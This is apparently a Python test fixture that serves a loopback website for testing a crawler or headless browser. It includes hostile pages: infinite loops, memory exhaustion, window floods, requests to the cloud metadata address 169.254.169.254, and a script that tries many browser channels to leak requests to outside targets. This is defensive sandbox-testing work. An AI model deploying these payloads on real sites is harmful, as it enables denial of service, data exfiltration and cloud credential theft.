"""A site whose pages are drawn by scripts, with plain ones between them, and pages that misuse a browser.

Two hosts of loopback on one port: the site, and a third party whose robots.txt forbids `/forbidden`. Every request is
noted with its host, path and time; so is every connection to the canary, a port that nobody may reach.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

SITE, THIRD_PARTY = "127.1.0.1", "127.1.0.9"
SHELL = "<!doctype html><title>app</title><div id=root></div><script src=/app.js></script>"
READABLE = "<!doctype html><title>plain</title><h1>Plain</h1><p>" + "words that anybody can read " * 40 + "</p>"
APP = """
const about = location.pathname;
fetch("/data?" + about).then(answer => answer.json()).then(data => {
  document.title = "drawn " + about;
  document.getElementById("root").innerHTML =
    "<h1>" + data.text + " " + about + "</h1><a href='" + about + "/next'>next</a>" +
    "<img src='http://THIRD/picture.png'><img src='http://THIRD/forbidden/picture.png'>" +
    "<img src='/private/picture.png'>";
});"""
# What a page does besides, for those who watch where it arrives: TARGETS are addresses, NAMES are host names.
LEAKS = """
const tried = work => { try { const done = work(); if (done && done.catch) done.catch(() => {}) } catch {} };
const put = (tag, values) => document.head.append(Object.assign(document.createElement(tag), values));
for (const to of TARGETS) {
  tried(() => fetch("http://" + to + "/leak", {mode: "no-cors"}));
  tried(() => new EventSource("http://" + to + "/leak"));
  tried(() => new WebSocket("ws://" + to + "/leak"));
  tried(() => navigator.sendBeacon("http://" + to + "/leak"));
  tried(() => window.open("http://" + to + "/leak"));
  tried(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + to + "/leak')"]))));
  tried(() => new RTCPeerConnection({iceServers: [{urls: "stun:" + to}]}).createDataChannel("x"));
  put("script", {src: "https://" + to + "/leak"}); put("link", {rel: "preconnect", href: "http://" + to});
}
for (const name of NAMES) {
  for (const rel of ["dns-prefetch", "preconnect", "prefetch"]) put("link", {rel, href: "https://" + name});
  tried(() => navigator.sendBeacon("https://" + name + "/leak")); put("video", {src: "https://" + name + "/leak"});
}
fetch("/data?tried");
"""
_END = "<p id=end>the end</p>"
HOSTILE = {
    "/loop": "<script>while (true) {}</script>",
    "/windows": f"<script>for (let n = 0; n < 100; n++) window.open('/window' + n)</script>{_END}",
    "/dialogs": f"<script>alert(1); confirm(2); prompt(3); print()</script>{_END}",
    "/sockets": "<script>try { new WebSocket('ws://CANARY/') } catch {}"
    f" try {{ new EventSource('http://CANARY/') }} catch {{}}</script>{_END}",
    "/worker": "<script>try { navigator.serviceWorker.register('/service.js') } catch {}"
    f" new Worker('/worker.js')</script>{_END}",
    "/download": f"{_END}<script>location.href = '/file.bin'</script>",
    "/elsewhere": _END + "<script>location.href = 'http://THIRD/landed'</script>",
    "/metadata": "<img src='http://169.254.169.254/latest'><script>fetch('http://169.254.169.254/x')</script>" + _END,
    "/tall": "<div style='height: 10000000px'></div>" + _END,
    "/crash": "<script>const all = []; for (;;) all.push(new Array(1e6).fill('x' + all.length))</script>",
    "/never": "<script>setInterval(() => fetch('/data?never'), 20)</script>" + _END,
    "/rtc": "<script>try { const one = new RTCPeerConnection({iceServers: [{urls: 'stun:CANARY'}]});"
    " one.createDataChannel('x'); one.createOffer().then(offer => one.setLocalDescription(offer)) } catch {}</script>"
    + _END,
    "/frames": "<iframe src='http://THIRD/framed'></iframe><iframe src='http://169.254.169.254/'></iframe>" + _END,
    "/form": "<form action=/found><input id=q name=q><button id=go>go</button></form>"
    "<select id=s><option>a<option>b</select>"
    "<script>document.getElementById('go').onclick = event => { event.preventDefault();"
    " document.body.append('typed ' + document.getElementById('q').value + ' ' + document.getElementById('s').value) }"
    "</script>",
    "/pushed": "<script>history.pushState({}, '', '/pushed/deeper')</script>" + _END,
    "/same": "<script>if (!location.search) location.href = '/same?again'</script>" + _END,
}


class Arrived(NamedTuple):
    """One request."""

    host: str
    path: str
    at: float
    headers: str = ""


class DrawnSite:
    """The site as a test sees it."""

    def __init__(self, port: int, canary: int) -> None:
        self.port = port
        self.canary_port = canary
        self.arrived: list[Arrived] = []
        self.canary_calls = 0
        self.leaks = ""  # what drawn pages do besides
        self.url = f"http://{SITE}:{port}"

    def paths(self, host: str = SITE) -> list[str]:
        """What was asked of a host, in order."""
        return [one.path for one in self.arrived if one.host == host]

    def paths_of_all(self) -> list[str]:
        """What was asked of any host, in order."""
        return [one.path for one in self.arrived]

    def page(self, path: str) -> str:
        """The text that a path has."""
        names = {"THIRD": f"{THIRD_PARTY}:{self.port}", "CANARY": f"127.0.0.1:{self.canary_port}"}
        text = HOSTILE.get(path)
        if text is None:
            text = (
                APP + self.leaks
                if path == "/app.js"
                else SHELL
                if path.startswith("/drawn") and not path.endswith("/next")
                else ""
            )
        for name, value in names.items():
            text = text.replace(name, value)
        return text


@contextmanager
def drawn_site(links: int = 4, twins: int = 0) -> Iterator[DrawnSite]:
    """The site, with links to so many pages of each kind on its first page. `twins`: other hosts with the same pages,
    from 127.1.1.1 on."""
    canary = socket.create_server(("127.0.0.1", 0))
    handler_of: list[DrawnSite] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            site, path = handler_of[0], self.path.partition("?")[0]
            host = (self.headers["Host"] or "").partition(":")[0]
            site.arrived.append(Arrived(host, self.path, time.monotonic(), str(self.headers)))
            kind, text = "text/html; charset=utf-8", site.page(path)
            if path == "/robots.txt":
                kind, text = "text/plain", "User-agent: *\nDisallow: /forbidden\nDisallow: /private\n"
            elif path == "/data":
                kind, text = "application/json", '{"text": "hello"}'
            elif path == "/app.js":
                kind = "text/javascript"
            elif path == "/file.bin":
                kind = "application/octet-stream"
            elif path == "/worker.js":
                kind, text = "text/javascript", f"fetch('http://127.0.0.1:{site.canary_port}/')"
            elif path == "/":
                named = [f"<a href=/{kind}{n}>{kind}</a>" for n in range(links) for kind in ("drawn", "plain")]
                text = READABLE + "".join(named)
            body = (text or READABLE).encode()
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Set-Cookie", "sid=user-cookie")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    first = ThreadingHTTPServer((SITE, 0), Handler)
    others = (THIRD_PARTY, *(f"127.1.1.{number + 1}" for number in range(twins)))
    servers = (first, *(ThreadingHTTPServer((host, first.server_port), Handler) for host in others))
    site = DrawnSite(first.server_port, canary.getsockname()[1])
    handler_of.append(site)

    def listen() -> None:
        while True:
            try:
                canary.accept()[0].close()
            except OSError:
                return
            site.canary_calls += 1

    threads = [threading.Thread(target=one.serve_forever, args=(0.02,), daemon=True) for one in servers]
    for thread in (*threads, threading.Thread(target=listen, daemon=True)):
        thread.start()
    try:
        yield site
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()
        canary.close()
